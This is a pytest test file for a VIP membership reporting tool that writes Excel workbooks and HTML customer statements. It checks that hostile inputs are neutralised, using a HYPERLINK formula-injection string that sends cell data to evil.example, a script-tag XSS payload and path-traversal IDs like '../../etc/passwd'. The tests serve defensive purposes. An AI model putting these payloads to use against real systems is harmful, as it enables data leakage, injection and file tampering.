"""The VIP outputs built from a VipResult: `vip_statements_PERIOD.xlsx` and `vip/CUSTOMER_ID.html`
(docs/outputs.md). The VipResult is built by hand here, so the figures checked are the ones given."""

from __future__ import annotations

import datetime as dt
import os
import shutil
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from browser import chromium, chromium_or_skip
from csbatch.reports.tables import VIP_DISCOUNT_AUDIT, VIP_MEMBERS, VIP_POINTS, VIP_TASKS
from csbatch.reports.vip_statements import money, render_statements, statement_filename
from csbatch.reports.vip_workbook import write_vip_workbook
from csbatch.vip.model import CARD_COLUMNS, POINT_COLUMNS, PURCHASE_COLUMNS, VipResult, empty

PERIOD = "2026-10"
HOSTILE_XLSX = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_HTML = "<script>alert(1)</script>"
D = pd.Timestamp


def member(customer_id, name, **kw):
    row = dict(customer_id=customer_id, name=name, programme="flagship", tier="silver", card_no="F2025110001",
               issued_on=D("2025-11-05"), valid_until=D("2026-11-04"), status="active",
               spend_month=Decimal("53210.50"), spend_12m=Decimal("168400.00"), points_open=1200,
               points_earned=1064, points_redeemed=300, points_expired=0, points_close=1964,
               voucher_value=Decimal("687.40"), next_tier_gap=Decimal("31600.00"))
    row.update(kw)
    return row


def statement(row, **kw):
    s = dict(row, id_masked="**************1234", phone_masked="138****5678",
             free_cleaning_until=dt.date(2026, 11, 4),
             entries=[dict(date=dt.date(2026, 10, 3), kind="earn", points=1064, order_id="SO-202610-0042",
                           note="订单 ¥53,210.50"),
                      dict(date=dt.date(2026, 10, 18), kind="redeem", points=-300, order_id="SO-202610-0107",
                           note="代金券抵扣"),
                      dict(date=dt.date(2026, 10, 20), kind="earn", points=0, order_id=None, note=None)],
             tasks=[dict(kind="birthday", due_from=dt.date(2026, 11, 12), due_to=dt.date(2026, 11, 17),
                         note="生日 11-19"),
                    dict(kind="maintenance", due_from=dt.date(2026, 11, 24), due_to=dt.date(2026, 11, 24),
                         note="实木餐桌保养 (购于 2025-12-01)")])
    s.update(kw)
    return s


def vip_result() -> VipResult:
    members = [member("C0001", "张三"),
               member("C0002", HOSTILE_XLSX, programme="modern", tier="gold", card_no="M2024030007",
                      issued_on=D("2024-03-09"), valid_until=D("2025-03-08"), points_open=None, points_earned=None,
                      points_redeemed=None, points_expired=None, points_close=None, voucher_value=None,
                      next_tier_gap=None),  # modern cards carry no points: blank
               member("../../etc/passwd", HOSTILE_HTML, card_no="F2026100003")]
    statements = [statement(members[0], programme_name="专业VIP", tier_name="银卡"),
                  statement(members[1], entries=[], tasks=[], free_cleaning_until=None),
                  statement(members[2], phone_masked="<b>139****0000</b>", entries=[])]
    points_out = pd.DataFrame([
        dict(customer_id="C0001", date=D("2026-10-03"), kind="earn", points=1064, order_id="SO-202610-0042", note=""),
        dict(customer_id="C0001", date=D("2026-10-18"), kind="redeem", points=-300, order_id="SO-202610-0107",
             note="-300 积分抵 ¥105.00"),
    ])
    tasks = pd.DataFrame([
        dict(customer_id="C0001", name="张三", phone="13812345678", kind="birthday", due_from=D("2026-11-12"),
             due_to=D("2026-11-17"), note="生日 11-19"),
        dict(customer_id="C0002", name=HOSTILE_XLSX, phone="+8613900000000", kind="festival:new_year",
             due_from=D("2026-11-01"), due_to=D("2026-11-01"), note="@元旦"),
    ])
    audit = pd.DataFrame([dict(order_id="SO-202610-0200", customer_id="C0001", tier="silver", category="imported",
                               list_amount=Decimal("10000.00"), amount=Decimal("9000.00"),
                               expected_amount=Decimal("9200.00"), problem="rate 0.90, tier rate 0.92")])
    return VipResult(purchases=empty(PURCHASE_COLUMNS), cards=empty(CARD_COLUMNS), points=empty(POINT_COLUMNS),
                     members=pd.DataFrame(members), points_out=points_out, tasks=tasks, discount_audit=audit,
                     statements=statements)


# --- workbook ----------------------------------------------------------------------------------

@pytest.fixture
def book(tmp_path):
    path = write_vip_workbook(tmp_path / f"vip_statements_{PERIOD}.xlsx", vip_result(), "zh")
    return openpyxl.load_workbook(path)


def header(ws):
    return [c.value for c in ws[1]]


def test_tables_are_the_csv_contract():
    assert VIP_MEMBERS.names == ["customer_id", "name", "programme", "tier", "card_no", "issued_on",
                                 "valid_until", "status", "spend_month", "spend_12m", "points_open",
                                 "points_earned", "points_redeemed", "points_expired", "points_close",
                                 "voucher_value", "next_tier_gap"]
    assert VIP_POINTS.names == ["customer_id", "date", "kind", "points", "order_id", "note"]
    assert VIP_TASKS.names == ["customer_id", "name", "phone", "kind", "due_from", "due_to", "note"]
    assert VIP_DISCOUNT_AUDIT.names == ["order_id", "customer_id", "tier", "category", "list_amount", "amount",
                                        "expected_amount", "problem"]


def test_workbook_sheets_and_chinese_headers(book):
    assert book.sheetnames == ["会员名册", "本月积分明细", "下月问候与提醒", "会员资料变更", "折扣稽核"]
    assert header(book["会员名册"]) == ["客户编号", "姓名", "会员计划", "等级", "卡号", "发卡日期", "有效期至",
                                        "状态", "本月消费", "近12个月消费", "期初积分", "本月获得", "本月兑换",
                                        "本月清零", "期末积分", "代金券价值", "距升级差额"]
    assert header(book["本月积分明细"])[:4] == ["客户编号", "日期", "类型", "积分"]
    assert header(book["下月问候与提醒"])[:3] == ["客户编号", "姓名", "电话"]
    assert header(book["折扣稽核"])[4:7] == ["原价金额", "成交金额", "应收金额"]
    assert header(book["会员资料变更"]) == ["卡号", "客户编号", "姓名", "类型", "变更后内容", "登记日期", "处理期限",
                                            "处理日期", "状态"]
    ws = book["会员名册"]
    assert ws.freeze_panes == "A2"
    assert [ws.cell(2, c).value for c in (3, 4, 8)] == ["专业VIP", "银卡", "有效"]
    assert [ws.cell(3, c).value for c in (3, 4)] == ["普通VIP", "金卡"]
    assert [ws.cell(3, c).value for c in range(11, 17)] == [None] * 6  # no points: blank, not 0
    assert book["下月问候与提醒"]["D3"].value == "节日问候"


def test_english_workbook(tmp_path):
    wb = openpyxl.load_workbook(write_vip_workbook(tmp_path / "en.xlsx", vip_result(), "en"))
    assert wb.sheetnames == ["Members", "Points entries", "Greetings and reminders", "Member changes",
                             "Discount audit"]
    assert header(wb["Members"])[:3] == ["customer id", "name", "programme"]
    assert wb["Members"]["D2"].value == "silver"  # codes, as in the CSV


def test_money_points_and_dates_are_typed_cells(book):
    ws = book["会员名册"]
    cols = {h: i + 1 for i, h in enumerate(header(ws))}
    spend = ws.cell(2, cols["本月消费"])
    assert spend.value == pytest.approx(53210.50) and isinstance(spend.value, float)
    assert "¥" in spend.number_format
    assert ws.cell(2, cols["代金券价值"]).value == pytest.approx(687.40)
    assert "¥" in ws.cell(2, cols["代金券价值"]).number_format
    assert ws.cell(3, cols["距升级差额"]).value is None  # gold: no next tier
    assert ws.cell(2, cols["期末积分"]).value == 1964 and ws.cell(2, cols["期末积分"]).number_format == "0"
    issued = ws.cell(2, cols["发卡日期"])
    assert issued.is_date and issued.value == dt.datetime(2025, 11, 5)
    assert issued.number_format == "yyyy-mm-dd"
    pts = book["本月积分明细"]
    assert pts["B2"].is_date and pts["D3"].value == -300
    audit = book["折扣稽核"]
    assert [audit.cell(2, c).value for c in (5, 6, 7)] == [10000, 9000, 9200]
    assert all("¥" in audit.cell(2, c).number_format for c in (5, 6, 7))


def test_formula_looking_text_stays_text(book):
    ws = book["会员名册"]
    cell = ws["B3"]
    assert cell.value == HOSTILE_XLSX and cell.data_type == "s"
    assert cell.quotePrefix  # Excel shows it as text and will not evaluate it on edit
    assert ws["B4"].value == HOSTILE_HTML
    tasks = book["下月问候与提醒"]
    assert tasks["C3"].value == "+8613900000000" and tasks["C3"].data_type == "s"
    assert tasks["G3"].value == "@元旦" and tasks["G3"].data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row), sheet.title


def test_a_month_without_members(tmp_path):
    def frame(table):
        return pd.DataFrame({c: pd.Series([], dtype=object) for c in table.names})

    result = VipResult(purchases=empty(PURCHASE_COLUMNS), cards=empty(CARD_COLUMNS), points=empty(POINT_COLUMNS),
                       members=frame(VIP_MEMBERS), points_out=frame(VIP_POINTS), tasks=frame(VIP_TASKS),
                       discount_audit=frame(VIP_DISCOUNT_AUDIT), statements=[])
    wb = openpyxl.load_workbook(write_vip_workbook(tmp_path / "empty.xlsx", result, "zh"))
    assert [ws.max_row for ws in wb.worksheets] == [1, 1, 1, 1, 1]
    assert render_statements(result, tmp_path, PERIOD) == [] and (tmp_path / "vip").is_dir()


# --- statements --------------------------------------------------------------------------------

def test_money_format():
    assert money(Decimal("1234.5")) == "¥1,234.50"
    assert money(Decimal("-105")) == "-¥105.00"
    assert money(None) == "—"


@pytest.mark.parametrize("cid, expected", [("C0001", "C0001.html"), ("会员-007", "会员-007.html"),
                                           ("A.B_1", "A.B_1.html")])
def test_plain_customer_ids_are_file_names(cid, expected):
    assert statement_filename(cid) == expected


@pytest.mark.parametrize("cid", ["../../etc/passwd", "..", ".", "a/b", "a\\b", "/abs", ".hidden", "CON",
                                 "nul.txt", "x\x00y", "a..b", "a b"])
def test_unsafe_customer_ids_are_made_safe(cid):
    name = statement_filename(cid)
    assert "/" not in name and "\\" not in name and ".." not in name and "\x00" not in name
    assert not name.startswith(".") and name.endswith(".html")
    assert statement_filename(cid) == name  # stable across runs


def test_cleaned_ids_do_not_collide():
    assert statement_filename("a/b") != statement_filename("a\\b") != statement_filename("a_b")
    with pytest.raises(ValueError):
        statement_filename("")


def test_statements_are_written_inside_vip_folder(tmp_path):
    out = tmp_path / "close"
    paths = render_statements(vip_result(), out, PERIOD)
    assert [p.name for p in paths[:2]] == ["C0001.html", "C0002.html"]
    assert all(p.parent == out / "vip" for p in paths)
    assert sorted(p.name for p in (out / "vip").iterdir()) == sorted(p.name for p in paths)
    assert not (tmp_path / "etc").exists()


def test_statement_content_and_escaping(tmp_path):
    paths = render_statements(vip_result(), tmp_path, PERIOD)
    html = paths[0].read_text(encoding="utf-8")
    assert html.startswith("<!doctype html>")
    assert '<meta name="viewport"' in html and "@media print" in html and "size: A4" in html
    for text in ("张三", "专业VIP", "银卡", "F2025110001", "2026-11-04", "**************1234", "138****5678",
                 "¥53,210.50", "¥168,400.00", "1,200", "1,064", "1,964", "¥687.40", "¥31,600.00",
                 "SO-202610-0042", "-300", "生日问候", "2026-11-12 至 2026-11-17", "保养提醒", "2026年10月"):
        assert text in html, text
    assert "http://" not in html and "https://" not in html and "<script" not in html.lower()
    assert "<link" not in html and "@import" not in html and "url(" not in html

    hostile = paths[2].read_text(encoding="utf-8")
    assert HOSTILE_HTML not in hostile
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile
    assert "&lt;b&gt;139****0000&lt;/b&gt;" in hostile
    assert "本月没有积分变动" in hostile  # a flagship member with no entries this month

    gold_modern = paths[1].read_text(encoding="utf-8")
    assert "普通VIP不累积积分" in gold_modern and "已是最高等级" in gold_modern
    assert "本月积分明细" not in gold_modern and "下月暂无问候或保养提醒" in gold_modern
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;点我&#34;)" in gold_modern


def test_missing_statement_key_is_an_error(tmp_path):
    result = vip_result()
    del result.statements[0]["voucher_value"]
    with pytest.raises(Exception, match="voucher_value"):
        render_statements(result, tmp_path, PERIOD)


# --- headless Chromium -------------------------------------------------------------------------

def test_statement_renders_in_headless_chromium(tmp_path):
    exe = chromium_or_skip()
    path = render_statements(vip_result(), tmp_path / "out", PERIOD)[0]
    url = path.resolve().as_uri()

    dom = chromium(exe, tmp_path / "profile", "--dump-dom", url)
    assert dom.returncode == 0, dom.stderr[-2000:]
    html = dom.stdout
    assert '<main class="sheet">' in html  # the page was parsed, not an error page
    for figure in ('id="spend-month">¥53,210.50<', 'id="spend-12m">¥168,400.00<', 'id="points-open">1,200<',
                   'id="points-earned">1,064<', 'id="points-redeemed">300<', 'id="points-close">1,964<',
                   'id="voucher-value">¥687.40<', 'id="next-tier-gap">¥31,600.00<', "张三", "F2025110001",
                   "**************1234", "SO-202610-0107"):
        assert figure in html, figure

    png = tmp_path / "phone.png"
    shot = chromium(exe, tmp_path / "profile2", f"--screenshot={png}", "--window-size=390,844", url)
    assert shot.returncode == 0, shot.stderr[-2000:]
    assert png.exists() and png.stat().st_size > 10_000
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (390, 844)
    if os.environ.get("CSBATCH_KEEP_SCREENSHOT"):
        shutil.copy(png, os.environ["CSBATCH_KEEP_SCREENSHOT"])
